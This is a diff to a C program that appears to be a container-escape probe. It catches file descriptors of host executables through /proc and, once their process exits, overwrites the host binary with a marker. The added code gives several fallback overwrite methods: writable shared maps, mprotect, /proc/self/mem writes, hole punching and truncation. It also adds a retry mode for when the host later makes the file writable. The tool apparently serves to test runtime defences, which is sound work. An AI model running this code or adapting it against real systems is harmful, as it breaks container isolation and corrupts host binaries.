@@ -5,12 +5,15 @@
  * writing through /proc/self/fd and appends a marker. It stops after SECONDS or when the
  * file "stop" in its cwd appears, and prints what it did:
  *   caught PATH        an exe fd of a process that ran PATH (not a container file)
- *   wrote PATH         the host file was overwritten: the attack won
- *   refused PATH ERR   reopening or writing it failed (ERR: the errno's name)
+ *   wrote PATH         the host file was overwritten: the attack won (by write(2), or where
+ *                      that is refused by a shared writable map, a punched hole or a
+ *                      truncation: "wrote PATH (HOW)")
+ *   refused PATH ERR   reopening or writing it failed, every way (ERR: write's errno name)
  * With a third argument "patient", a refusal (EROFS, EPERM) is not final: the write is tried
  * again every 100 ms, for the day the host makes the file writable again (an update that
  * remounts it read-write or lifts its immutable flag); "refused" is then said once a file.
  * Usage: exe_race SECONDS MARKER [patient] (static: the container has no libc). */
+#define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -18,6 +21,8 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mman.h>
+#include <stdint.h>
 #include <sys/stat.h>
 #include <time.h>
 #include <unistd.h>
@@ -96,11 +101,61 @@ static void try_pid(pid_t pid)
 	ncaught++;
 }
 
+/* A read-only shared map of fd made writable (mprotect), else written through
+ * /proc/self/mem (which writes a shared map only where it could be made writable). */
+static const char *write_through_map(int fd)
+{
+	const char *how = NULL;
+	char *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
+	char c;
+	int mem;
+
+	if (p == MAP_FAILED)
+		return NULL;
+	c = (char)(p[0] ^ 0x5a);
+	if (mprotect(p, 4096, PROT_READ | PROT_WRITE) == 0) {
+		p[0] = c;
+		how = "a read-only shared map made writable";
+	} else if ((mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC)) >= 0) {
+		if (pwrite(mem, &c, 1, (off_t)(uintptr_t)p) == 1 && p[0] == c)
+			how = "/proc/self/mem on a read-only shared map";
+		close(mem);
+	}
+	munmap(p, 4096);
+	return how;
+}
+
+/* Where write(2) was refused (a sealed memfd: EPERM), the other ways to change the file
+ * through a new fd of it: how one succeeded, or NULL. */
+static const char *write_otherwise(const char *link)
+{
+	const char *how = NULL;
+	int fd = open(link, O_RDWR | O_CLOEXEC);
+	char *p;
+
+	if (fd < 0)
+		return NULL;
+	p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	if (p != MAP_FAILED) {
+		p[0] ^= 0x5a;
+		munmap(p, 4096);
+		how = "a shared writable map";
+	} else if ((how = write_through_map(fd)) == NULL) {
+		if (fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) == 0)
+			how = "a punched hole";
+		else if (ftruncate(fd, 1) == 0)
+			how = "truncated";
+	}
+	close(fd);
+	return how;
+}
+
 /* Once its process is gone (ETXTBSY otherwise), the file is reopened for writing. */
 static void try_write(struct caught *c, const char *marker)
 {
 	char link[64];
-	int fd;
+	const char *how;
+	int fd, err;
 
 	if (c->done || kill(c->pid, 0) == 0)
 		return;
@@ -111,9 +166,12 @@ static void try_write(struct caught *c, const char *marker)
 	if (fd >= 0 && write(fd, marker, strlen(marker)) == (ssize_t)strlen(marker)) {
 		printf("wrote %s\n", c->path);
 		c->done = 1;
+	} else if (err = errno, fd >= 0 && (how = write_otherwise(link)) != NULL) {
+		printf("wrote %s (%s)\n", c->path, how);
+		c->done = 1;
 	} else {
 		if (!c->said)
-			printf("refused %s %s\n", c->path, errname(errno));
+			printf("refused %s %s\n", c->path, errname(err));
 		c->said = 1;
 		c->done = !patient;
 	}
